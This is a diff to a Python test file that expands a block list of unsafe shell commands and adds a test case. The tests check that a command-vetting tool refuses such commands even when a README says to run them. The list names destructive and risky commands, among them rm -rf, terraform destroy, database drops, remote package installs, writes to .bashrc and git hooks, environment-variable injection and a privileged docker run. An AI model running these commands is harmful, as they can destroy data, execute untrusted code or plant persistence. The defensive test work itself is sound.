@@ -134,7 +134,8 @@ UNSAFE = (
     "rm -rf build", "sudo make install", "bash -c ls", "python -c print", "git push origin main", "npx cowsay hi",
     "npm publish", "bin/rails db:drop", "pip install leftpad", "npm install -g leftpad", "make $(whoami)", "ls; ls -la",
     "pip install https://x.example.com/y.whl", "NODE_OPTIONS=--require=./x.js npm run seed", "echo x > .bashrc",
-    "docker push shop", "aws s3 sync . s3://x", "terraform destroy", "curl -O x.sh", "GIT_SSH_COMMAND=x make seed",
+    "docker push shop", "aws s3 sync . s3://x", "terraform destroy", "curl -O x.sh",
+    "bash ../other/x.sh", "cp seed.js .git/hooks/pre-commit", "make SHELL=./x.js seed", "npm --prefix=../x run seed", "node -p 1", "GIT_SSH_COMMAND=x make seed",
 )  # fmt: skip
 
 
@@ -156,6 +157,7 @@ def test_a_dangerous_command_is_refused_even_where_the_readme_says_to_run_it(
         ("docker compose logs -f", "companion", Why.CONFLICT),
         ("make seed and wait", "setup", Why.CHECK),
         ("npm run seed", "service", Why.CHECK),
+        ("docker run --privileged shop", "service", Why.CHECK),
         ("frobnicate --now", "setup", Why.UNSAFE),
         ("./tools/setup.sh", "setup", Why.UNSAFE),
     ],
